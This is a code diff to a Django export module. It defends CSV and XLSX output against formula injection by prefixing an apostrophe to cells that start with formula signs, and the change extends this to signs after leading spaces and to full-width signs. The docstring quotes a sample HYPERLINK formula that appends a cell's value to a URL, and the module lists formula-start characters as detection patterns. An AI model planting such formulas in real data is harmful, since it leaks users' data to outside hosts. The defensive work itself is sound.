@@ -5,8 +5,9 @@ return, which some programs skip before reading one of those) is a formula to Ex
 LibreOffice and Google Sheets: a name typed as `=HYPERLINK("https://…?"&A1, "klik")` in an
 intake form would run on the supervisor's machine when the export is opened. Every CSV and
 XLSX the project writes goes through this module, which puts an apostrophe before such text,
-as OWASP advises. Numbers written as numbers stay numbers (-5 is not a formula); the text "-5"
-gets its apostrophe.
+as OWASP advises, and before text whose first sign comes after spaces or is full-width.
+Numbers written as numbers stay numbers (-5 is not a formula); the text "-5" gets its
+apostrophe.
 """
 
 import csv
@@ -16,6 +17,17 @@ from typing import IO, Any
 from django.utils.functional import Promise
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Spreadsheet programs that trim the spaces before a cell (LibreOffice's "trim spaces") then
+# read the sign; some convert the full-width signs of East Asian keyboards (＝＋－＠) too.
+_SKIPPED_BEFORE = " \t\r\n\u00a0\u3000"
+_FULL_WIDTH_STARTS = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def starts_a_formula(text: str) -> bool:
+    """Whether a spreadsheet program may read `text` as a formula."""
+    if text.startswith(FORMULA_STARTS):
+        return True
+    return text.lstrip(_SKIPPED_BEFORE).startswith(FORMULA_STARTS + _FULL_WIDTH_STARTS)
 
 
 def spreadsheet_safe(value: Any) -> Any:
@@ -25,7 +37,7 @@ def spreadsheet_safe(value: Any) -> Any:
         return ""
     if isinstance(value, Promise):  # a lazy translation: the text it stands for
         value = str(value)
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+    if isinstance(value, str) and starts_a_formula(value):
         return "'" + value
     return value
 
